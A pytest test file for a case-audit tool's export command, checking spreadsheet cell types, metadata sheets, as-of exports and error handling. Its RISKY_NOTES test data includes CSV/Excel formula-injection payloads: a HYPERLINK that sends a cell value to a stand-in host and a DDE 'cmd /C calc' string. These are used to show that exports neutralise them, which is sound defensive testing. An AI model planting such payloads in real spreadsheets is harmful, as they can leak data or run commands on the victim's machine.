"""`caseaudit export`: files a QA lead can open and work in, that never run a note as a formula,
that say what they hold, and that are written whole or not at all.

Each point is checked by opening the written file as a reader would: with openpyxl (cell types,
number formats, frozen panes, filters), the csv module, and pandas for Parquet.
"""

from __future__ import annotations

import csv
import errno
import getpass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from caseaudit.cli import main
from caseaudit.export import (
    ABOUT_SHEET,
    COLUMN_MEANINGS,
    FORMULA_PREFIXES,
    RESPONSES_SHEET,
    TEXT_FORMAT,
    TIME_FORMAT,
    _csv_safe,
    _write_xlsx,
)
from caseaudit.privacy import find_personal_data
from caseaudit.rounds import AuditRound, load_round
from caseaudit.store import FormSave, Store, open_store

from .postgres import db_option


def _run(*args: str, env: dict[str, str] | None = None):  # type: ignore[no-untyped-def]
    return CliRunner().invoke(main, list(args), env=env, catch_exceptions=False)


class Workbook:
    """A database and folder of rounds holding the small synthetic partnership, and its last round."""

    def __init__(self, store: Store, db: str, audits: Path, round_id: str) -> None:
        self.store, self.db, self.audits, self.round_id = store, db, audits, round_id

    def export(self, output: Path, *args: str, env: dict[str, str] | None = None):  # type: ignore[no-untyped-def]
        return _run("export", "--round", self.round_id, "-o", str(output), *args,
                    "--db", str(self.db), "--audits", str(self.audits), env=env)

    @property
    def audit(self) -> AuditRound:
        return load_round(self.round_id, self.audits)

    def save_notes(self, notes: list[str], saved_at: datetime | None = None) -> dict[str, str]:
        """Save the first form of the round again with ``notes`` on its first criteria; returns
        the notes by criterion."""
        audit = self.audit
        head = self.store.form_statuses(self.round_id).iloc[0]
        latest = self.store.latest_revision(self.round_id, head.case_id, head.agency, head.auditor)
        by_criterion = dict(zip(list(latest.grades)[:len(notes)], notes, strict=False))
        assert len(by_criterion) == len(notes)
        self.store.save_form(audit, audit.load_framework(), FormSave(
            head.case_id, head.agency, head.auditor, latest.grades, by_criterion, "draft",
            latest.revision_no, saved_by="TEST", saved_at=saved_at))
        return by_criterion


@pytest.fixture
def workbook(filled, tmp_path: Path, small_partnership) -> Workbook:  # type: ignore[no-untyped-def]
    store, audits = filled
    return Workbook(store, db_option(store.url), audits, small_partnership.rounds[-1].id)


def _responses(path: Path):  # type: ignore[no-untyped-def]
    return load_workbook(path)[RESPONSES_SHEET]


def _about(path: Path) -> dict[str, object]:
    return {row[0]: row[1] for row in load_workbook(path)[ABOUT_SHEET].iter_rows(values_only=True)
            if row[0] is not None}


def _column(sheet, name: str) -> list:  # type: ignore[no-untyped-def]
    headers = [c.value for c in sheet[1]]
    return [row[headers.index(name)] for row in sheet.iter_rows(min_row=2)]


# -- what each format holds -------------------------------------------------------------------------

@pytest.mark.both_databases  # the store's reads; the file formats are tested on SQLite
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_export_writes_one_row_per_current_score(workbook: Workbook, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"export.{fmt}"
    result = workbook.export(out, "--format", fmt)
    assert result.exit_code == 0, result.output
    frame = {"csv": pd.read_csv, "xlsx": pd.read_excel, "parquet": pd.read_parquet}[fmt](out)
    expected = open_store(workbook.db).current_responses(workbook.round_id)
    assert len(frame) == len(expected) > 0
    assert f"Wrote {len(expected)} rows to {out}." in result.output
    assert {"case_id", "agency", "auditor", "criterion_id", "grade", "grade_label", "status",
            "personal_data_flag", "personal_data_found"} <= set(frame.columns)
    assert set(frame["grade_label"].dropna()) <= {"Outstanding", "Good",
                                                  "Requires improvement to be good", "Inadequate",
                                                  "Not applicable"}
    assert set(COLUMN_MEANINGS) == set(frame.columns)  # the About sheet explains every column
    saved = expected["saved_at"].iloc[0]
    if fmt == "csv":  # text, as ISO 8601 in UTC
        assert frame["saved_at"].iloc[0] == saved.strftime("%Y-%m-%dT%H:%M:%SZ")
    if fmt == "parquet":  # a time, in UTC
        assert frame["saved_at"].iloc[0] == saved.tz_localize("UTC")
        assert str(frame["saved_at"].dt.tz) == "UTC"


def test_the_format_follows_the_file_name_and_a_contradiction_is_refused(workbook: Workbook,
                                                                          tmp_path: Path) -> None:
    named = workbook.export(tmp_path / "round.xlsx")
    assert named.exit_code == 0, named.output
    assert load_workbook(tmp_path / "round.xlsx").sheetnames == [RESPONSES_SHEET, ABOUT_SHEET]
    plain = workbook.export(tmp_path / "round.txt")
    assert plain.exit_code == 0
    assert (tmp_path / "round.txt").read_text(encoding="utf-8-sig").startswith("round_id,")
    clash = workbook.export(tmp_path / "clash.csv", "--format", "xlsx")
    assert clash.exit_code == 1 and "Traceback" not in clash.output
    assert "clash.csv ends in .csv but --format is xlsx; name the file clash.xlsx" in clash.output
    assert not (tmp_path / "clash.csv").exists()


def test_the_xlsx_sheet_has_a_frozen_filtered_header_and_readable_widths(workbook: Workbook,
                                                                          tmp_path: Path) -> None:
    out = tmp_path / "round.xlsx"
    assert workbook.export(out).exit_code == 0
    sheet = _responses(out)
    headers = [c.value for c in sheet[1]]
    assert sheet.freeze_panes == "A2"
    last = sheet.cell(row=1, column=len(headers)).column_letter
    assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
    assert all(c.font.bold for c in sheet[1])
    widths = {h: sheet.column_dimensions[sheet.cell(row=1, column=i).column_letter].width
              for i, h in enumerate(headers, start=1)}
    assert all(len(h) < widths[h] <= 60 for h in headers), widths  # every header shows whole
    assert widths["note"] > widths["agency"]
    assert widths["saved_at"] >= len("2026-03-31 23:59")


def test_xlsx_cells_have_the_types_a_spreadsheet_works_with(workbook: Workbook, tmp_path: Path) -> None:
    out = tmp_path / "round.xlsx"
    assert workbook.export(out).exit_code == 0
    sheet = _responses(out)
    expected = open_store(workbook.db).current_responses(workbook.round_id)
    ids = _column(sheet, "criterion_id")
    assert all(c.data_type == "s" and c.number_format == TEXT_FORMAT for c in ids)
    assert [c.value for c in ids] == list(expected["criterion_id"])
    saved = _column(sheet, "saved_at")
    assert all(c.is_date and c.number_format == TIME_FORMAT for c in saved)
    assert [c.value for c in saved] == [t.to_pydatetime() for t in expected["saved_at"]]
    grades = _column(sheet, "grade")
    assert [c.value for c in grades] == [None if pd.isna(g) else int(g) for g in expected["grade"]]
    assert {c.data_type for c in grades if c.value is not None} == {"n"}
    assert {c.data_type for c in _column(sheet, "not_applicable")} == {"b"}
    assert {c.data_type for c in _column(sheet, "revision_no")} == {"n"}


def test_a_criterion_numbered_1_10_stays_1_10(tmp_path: Path, jtai, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    from caseaudit.framework import load_framework_file
    from caseaudit.synthetic import build_partnership, write_partnership

    folder = tmp_path / "frameworks"
    folder.mkdir()
    builtin = Path(__file__).parents[1] / "lib/caseaudit/frameworks/jtai-csa-family.yaml"
    text = builtin.read_text(encoding="utf-8").replace("id: jtai-csa-family", "id: local-tens", 1)
    assert 'id: "1.4"' in text
    (folder / "local-tens.yaml").write_text(text.replace('id: "1.4"', 'id: "1.10"'), encoding="utf-8")
    monkeypatch.setenv("CASEAUDIT_FRAMEWORKS", str(folder))
    framework = load_framework_file(folder / "local-tens.yaml")
    partnership = build_partnership(cases=3, rounds=1, seed=5, framework=framework)
    store = open_store(tmp_path / "tens.db", create=True)
    write_partnership(partnership, tmp_path / "audits", store, framework)
    store.dispose()
    out = tmp_path / "tens.xlsx"
    result = _run("export", "--round", partnership.rounds[0].id, "-o", str(out),
                  "--db", str(tmp_path / "tens.db"), "--audits", str(tmp_path / "audits"))
    assert result.exit_code == 0, result.output
    ids = _column(_responses(out), "criterion_id")
    tens = [c for c in ids if c.value == "1.10"]
    assert tens and all(c.data_type == "s" and c.number_format == TEXT_FORMAT for c in tens)
    assert 1.1 not in {c.value for c in ids}
    assert "1.10" in set(pd.read_excel(out, dtype={"criterion_id": str})["criterion_id"])


# -- the personal-data flag -------------------------------------------------------------------------
@pytest.mark.both_databases  # the store's reads; the file formats are tested on SQLite
def test_each_note_carries_the_scoring_forms_personal_data_flag(workbook: Workbook,
                                                                tmp_path: Path) -> None:
    identifying = "Seen at home, LS6 2AB; mother Amelia Jones present."
    plain = "Strategy discussion held the same day; the plan named the child's voice."
    notes = workbook.save_notes([identifying, plain])
    out = tmp_path / "round.xlsx"
    assert workbook.export(out).exit_code == 0
    sheet = _responses(out)
    rows = list(zip(*(_column(sheet, name) for name in
                      ("note", "personal_data_flag", "personal_data_found")), strict=True))
    flags = {note.value: (flag.value, found.value) for note, flag, found in rows}
    assert flags[identifying] == (True, "postcode; name")
    assert flags[plain] == (False, None)
    for note, flag, found in rows:  # the form's own check, note by note
        kinds = list(dict.fromkeys(f.kind for f in find_personal_data(note.value or "")))
        assert flag.data_type == "b" and flag.value is bool(kinds)
        assert (found.value or "") == "; ".join(kinds)
    assert set(notes.values()) == {identifying, plain}
    workbook.export(tmp_path / "round.csv")
    with (tmp_path / "round.csv").open(newline="", encoding="utf-8-sig") as fh:
        by_note = {row["note"]: row for row in csv.DictReader(fh)}
    assert by_note[identifying]["personal_data_flag"] == "True"
    assert by_note[identifying]["personal_data_found"] == "postcode; name"
    assert by_note[plain]["personal_data_flag"] == "False"


# -- the About sheet --------------------------------------------------------------------------------

def test_the_about_sheet_says_what_the_file_holds_and_who_exported_it(workbook: Workbook,
                                                                      tmp_path: Path) -> None:
    out = tmp_path / "round.xlsx"
    before = datetime.now(UTC).replace(tzinfo=None, microsecond=0)
    assert workbook.export(out, "--by", "QA-LEAD").exit_code == 0
    after = datetime.now(UTC).replace(tzinfo=None)
    about = _about(out)
    audit = workbook.audit
    assert about["Round"] == audit.id and about["Round title"] == audit.title
    assert (about["Framework"], about["Framework version"]) == (audit.framework.id,
                                                                audit.framework.version)
    assert about["Exported by"] == "QA-LEAD" and about["How the exporter is known"] == "named with --by"
    assert isinstance(about["Exported at"], datetime) and before <= about["Exported at"] <= after
    assert about["Rows"] == _responses(out).max_row - 1 > 0
    assert str(about["As of"]).startswith("Now")
    assert "UTC" in str(about["Times"])
    sheet = load_workbook(out)[ABOUT_SHEET]
    dated = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, datetime)]
    assert dated and all(c.is_date and c.number_format == TIME_FORMAT for c in dated)
    explained = {row[0]: row[1] for row in sheet.iter_rows(values_only=True)}
    headers = [c.value for c in _responses(out)[1]]
    assert all(explained.get(h) == COLUMN_MEANINGS[h] for h in headers)


def test_without_by_the_about_sheet_names_the_computer_account(workbook: Workbook,
                                                               tmp_path: Path) -> None:
    out = tmp_path / "round.xlsx"
    assert workbook.export(out).exit_code == 0
    about = _about(out)
    assert about["Exported by"] == getpass.getuser()
    assert "computer account" in str(about["How the exporter is known"])
    assert "--by" in str(about["How the exporter is known"])


# -- as of a past time ------------------------------------------------------------------------------
@pytest.mark.both_databases  # the store's reads; the file formats are tested on SQLite
def test_an_export_as_of_a_time_holds_the_store_as_it_stood_then(workbook: Workbook,
                                                                 tmp_path: Path) -> None:
    store = workbook.store
    then = store.current_responses(workbook.round_id)["saved_at"].max().to_pydatetime()
    as_of = (then + timedelta(hours=1)).replace(second=0, microsecond=0)
    later_note = "Added after the as-of time: the chronology was updated."
    workbook.save_notes([later_note], saved_at=then + timedelta(days=2))
    first, again, now = (tmp_path / "a.csv", tmp_path / "b.csv", tmp_path / "now.csv")
    stamp = as_of.strftime("%Y-%m-%dT%H:%M")
    result = workbook.export(first, "--as-of", stamp)
    assert result.exit_code == 0, result.output
    assert f"as the database stood at {as_of:%Y-%m-%d %H:%M} UTC" in result.output
    workbook.save_notes([later_note, "Another revision, saved after the first export."])
    assert workbook.export(again, "--as-of", stamp).exit_code == 0
    assert first.read_bytes() == again.read_bytes()  # a rerun as of the same time is the same file
    assert workbook.export(now).exit_code == 0
    as_then = pd.read_csv(first, keep_default_na=False)
    assert later_note not in set(as_then["note"]) and later_note in set(pd.read_csv(now)["note"])
    assert len(as_then) == len(store.current_responses(workbook.round_id, as_of=as_of))
    xlsx = tmp_path / "then.xlsx"
    assert workbook.export(xlsx, "--as-of", stamp + "+00:00").exit_code == 0
    about = _about(xlsx)
    assert about["As of"] == as_of and about["Rows"] == len(as_then)
    before = workbook.export(tmp_path / "before.csv", "--as-of", "2000-01-01")
    assert before.exit_code == 0, before.output
    assert f"Wrote 0 rows to {tmp_path / 'before.csv'} as the database stood at 2000-01-01 00:00 " \
        f"UTC. Nothing had been saved in round {workbook.round_id} by then." in before.output
    assert pd.read_csv(tmp_path / "before.csv").empty


@pytest.mark.parametrize(("as_of", "says"), [
    ("01/05/2026", "is not a date or time the workbook can read; write it as 2026-05-01"),
    ("yesterday", "is not a date or time the workbook can read"),
    ((datetime.now(UTC) + timedelta(days=30)).strftime("%Y-%m-%d"), "is in the future; leave out "
     "--as-of to export the round as it is now"),
])
def test_an_as_of_time_that_cannot_be_used_is_refused_plainly(workbook: Workbook, tmp_path: Path,
                                                              as_of: str, says: str) -> None:
    out = tmp_path / "round.xlsx"
    result = workbook.export(out, "--as-of", as_of)
    assert result.exit_code == 1 and says in result.output
    assert result.output.strip().count("\n") == 0 and "Traceback" not in result.output
    assert list(tmp_path.glob("round*")) == [] and not list(tmp_path.glob(".round*"))


def test_a_csv_export_tells_excel_it_is_utf8(workbook: Workbook, tmp_path: Path) -> None:
    """Excel opens a CSV without a byte-order mark in the local code page: "Zoë's" became "ZoÃ«'s"."""
    workbook.save_notes(["Spoke with Zoë’s teacher — “settled”"])
    out = tmp_path / "round.csv"
    assert workbook.export(out).exit_code == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\xef\xbb\xbf") == 1
    assert raw[3:].decode("utf-8").splitlines()[0].startswith("round_id")
    assert "Spoke with Zoë’s teacher — “settled”" in set(pd.read_csv(out, keep_default_na=False)["note"])


# -- formulas stay text, numbers stay numbers -------------------------------------------------------

RISKY_NOTES = {
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click for the full record\")": "=",
    "+44 seen by GP": "+",
    "-2 visits missed": "-",
    "@SUM(1+1)*cmd|' /C calc'!A0": "@",
    "Seen at home\x00 with\x0bmother\x1b.": "control",
}


def test_a_note_that_starts_like_a_formula_is_text_in_a_csv_export(workbook: Workbook,
                                                                   tmp_path: Path) -> None:
    notes = workbook.save_notes(list(RISKY_NOTES))
    out = tmp_path / "export.csv"
    assert workbook.export(out).exit_code == 0
    with out.open(newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    exported = {row["note"] for row in rows}
    for note, prefix in RISKY_NOTES.items():
        if prefix != "control":
            assert "'" + note in exported and note not in exported
    assert not any(value.startswith(FORMULA_PREFIXES) for row in rows for value in row.values())
    assert {row["grade"] for row in rows} - {""} <= {"1", "2", "3", "4"}  # numbers stay numbers
    assert len(notes) == len(RISKY_NOTES)


def test_a_note_that_starts_like_a_formula_is_text_in_an_xlsx_export(workbook: Workbook,
                                                                     tmp_path: Path) -> None:
    workbook.save_notes(list(RISKY_NOTES))
    out = tmp_path / "export.xlsx"
    result = workbook.export(out)
    assert result.exit_code == 0, result.output
    cells = [c for row in _responses(out).iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for note, prefix in RISKY_NOTES.items():
        if prefix != "control":
            assert by_value[note].data_type == "s" and by_value[note].quotePrefix
    assert not any(c.quotePrefix for value, c in by_value.items()
                   if not value.startswith(FORMULA_PREFIXES))
    assert "Seen at home with\x0bmother." not in by_value
    assert "Seen at home withmother." in by_value  # control characters an XLSX cannot hold


def test_a_negative_number_stays_a_number_and_negative_text_becomes_text(tmp_path: Path) -> None:
    frame = pd.DataFrame({
        "criterion_id": pd.array(["1.10", "2.0"], dtype="string"),
        "change": [-2, 3],
        "share": [-0.25, float("nan")],
        "note": pd.array(["-2 visits missed", None], dtype="string"),
        "text": pd.array(["\t=1+1 after a tab", "\r@SUM(A1) after a return"], dtype="string"),
        "saved_at": pd.to_datetime(["2026-03-31 23:59", "2026-04-01 08:00"]),
    })
    safe = _csv_safe(frame)
    assert list(safe["change"]) == [-2, 3] and safe["share"].iloc[0] == -0.25
    assert list(safe["note"].fillna("")) == ["'-2 visits missed", ""]
    assert list(safe["criterion_id"]) == ["1.10", "2.0"]
    assert list(safe["text"]) == ["'\t=1+1 after a tab", "'\r@SUM(A1) after a return"]
    path = tmp_path / "frame.xlsx"
    _write_xlsx(frame, str(path), [("Rows", 2)])
    sheet = _responses(path)
    change, share, note = _column(sheet, "change"), _column(sheet, "share"), _column(sheet, "note")
    assert [(c.value, c.data_type) for c in change] == [(-2, "n"), (3, "n")]
    assert (share[0].value, share[0].data_type, share[1].value) == (-0.25, "n", None)
    assert (note[0].value, note[0].data_type, note[0].quotePrefix) == ("-2 visits missed", "s", True)
    assert note[1].value is None
    assert all(c.data_type == "s" and c.quotePrefix for c in _column(sheet, "text"))
    assert [c.value for c in _column(sheet, "text")] == ["\t=1+1 after a tab", "\n@SUM(A1) after a return"]
    assert [c.value for c in _column(sheet, "criterion_id")] == ["1.10", "2.0"]
    assert _column(sheet, "saved_at")[0].value == datetime(2026, 3, 31, 23, 59)


# -- bad input: one line, no traceback, no file -----------------------------------------------------

def test_export_of_an_unknown_round_fails_plainly(workbook: Workbook, tmp_path: Path) -> None:
    result = _run("export", "--round", "1999-01-maca", "-o", str(tmp_path / "x.csv"),
                  "--db", str(workbook.db), "--audits", str(workbook.audits))
    assert result.exit_code == 1 and "There is no audit round '1999-01-maca'" in result.output
    assert "Traceback" not in result.output
    assert not (tmp_path / "x.csv").exists()


def test_an_output_that_is_a_folder_or_in_a_missing_folder_is_refused(workbook: Workbook,
                                                                      tmp_path: Path) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    into_folder = workbook.export(folder, "--format", "xlsx")
    assert into_folder.exit_code == 1 and into_folder.output.strip().count("\n") == 0
    assert f"{folder} is a folder; give the file to write, e.g. {folder / workbook.round_id}.xlsx" \
        in into_folder.output
    missing = workbook.export(tmp_path / "absent" / "round.csv")
    assert missing.exit_code == 1 and missing.output.strip().count("\n") == 0
    assert f"The folder {tmp_path / 'absent'} does not exist" in missing.output
    assert list(folder.iterdir()) == [] and not (tmp_path / "absent").exists()


def _full_disk(monkeypatch: pytest.MonkeyPatch, folder: Path) -> None:
    def half_then_full(self, path, *args, **kwargs):  # type: ignore[no-untyped-def]
        Path(path).write_text("case_id,agency\nM1,")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", half_then_full)


def _no_permission(monkeypatch: pytest.MonkeyPatch, folder: Path) -> None:
    """The folder made read-only; where the account writes anyway (root), the system's answer
    to everyone else stands in."""
    import os
    import tempfile

    folder.chmod(0o555)
    if os.access(folder, os.W_OK):
        def refused(*args, **kwargs):  # type: ignore[no-untyped-def]
            raise PermissionError(errno.EACCES, "Permission denied", str(folder))

        monkeypatch.setattr(tempfile, "mkstemp", refused)


def _open_in_excel(monkeypatch: pytest.MonkeyPatch, folder: Path) -> None:
    import os

    def locked(src, dst, *args, **kwargs):  # type: ignore[no-untyped-def]
        raise PermissionError(errno.EACCES, "Permission denied", str(dst))

    monkeypatch.setattr(os, "replace", locked)


@pytest.mark.parametrize(("fmt", "fail", "says"), [
    ("csv", _full_disk, "the disk holding {folder} is full. Free some space there"),
    ("csv", _no_permission, "the folder {folder} cannot be written (Permission denied)"),
    ("xlsx", _no_permission, "the folder {folder} cannot be written (Permission denied)"),
    ("xlsx", _open_in_excel, "the earlier round.xlsx could not be replaced (Permission denied). If "
                             "it is open in Excel or another program, close it"),
])
def test_an_export_that_cannot_be_written_says_why_and_leaves_the_last_one(
        workbook: Workbook, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str,
        fail, says: str) -> None:  # type: ignore[no-untyped-def]
    folder = tmp_path / "shared-drive"
    folder.mkdir()
    out = folder / f"round.{fmt}"
    out.write_text("last week's export\n")
    try:
        fail(monkeypatch, folder)
        result = workbook.export(out)
    finally:
        folder.chmod(0o755)
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert result.output.strip().count("\n") == 0
    assert "was not written, and nothing was left behind" in result.output
    assert says.format(folder=folder) in result.output
    assert [p.name for p in folder.iterdir()] == [out.name]
    assert out.read_text() == "last week's export\n"


def test_a_practice_week_exports_each_records_stream_details_beside_its_answers(tmp_path: Path) -> None:
    from caseaudit.export import STREAM_COLUMN_MEANINGS
    from caseaudit.framework import load_framework
    from tests.practice_week_store import TEXT, save_weeks

    store = open_store(tmp_path / "pw.db", create=True)
    audits = tmp_path / "audits"
    this, _ = save_weeks(store, load_framework("practice-week", "1.0"), audits)
    store.dispose()
    out = tmp_path / "week.xlsx"
    result = _run("export", "--round", this.id, "-o", str(out), "--db", str(tmp_path / "pw.db"),
                  "--audits", str(audits))
    assert result.exit_code == 0, result.output
    sheet = load_workbook(out)[RESPONSES_SHEET]
    rows = list(sheet.iter_rows(values_only=True))
    header = list(rows[0])
    # the stream's columns sit after the auditor, and the About sheet explains each
    assert header[4:4 + len(STREAM_COLUMN_MEANINGS)] == list(STREAM_COLUMN_MEANINGS)
    frame = pd.DataFrame(rows[1:], columns=header)
    by_record = frame.drop_duplicates("case_id").set_index("case_id")
    assert by_record.loc["OBS-001", ["stream_id", "practitioner", "event_kind", "event_date"]].tolist() \
        == ["observation", "P-06", "home visit", "2026-05-12"]
    assert by_record.loc["OBS-010", "feedback_given"] is False  # the tenth had no feedback after
    assert by_record.loc["FF-001", ["stream_id", "respondent", "consent"]].tolist() == [
        "family_feedback", "child or young person", "given"]
    assert by_record.loc[this.cases[0].id, "stream_id"] == "case_audit"
    # a declined return has no answers, so no row; the draft observation is there, as a draft
    assert "FF-005" not in by_record.index and by_record.loc["OBS-013", "status"] == "draft"
    # a row per answer: 12 submitted observations x 4 criteria (OB1-OB4), and the draft's one
    assert len(frame[frame["stream_id"] == "observation"]) == 12 * 4 + 1
    # the record's own words stay in the form
    assert not any(TEXT in str(v) for row in rows for v in row)
    explained = {r[0]: r[1] for r in load_workbook(out)[ABOUT_SHEET].iter_rows(values_only=True)}
    assert all(explained.get(c) == m for c, m in STREAM_COLUMN_MEANINGS.items())
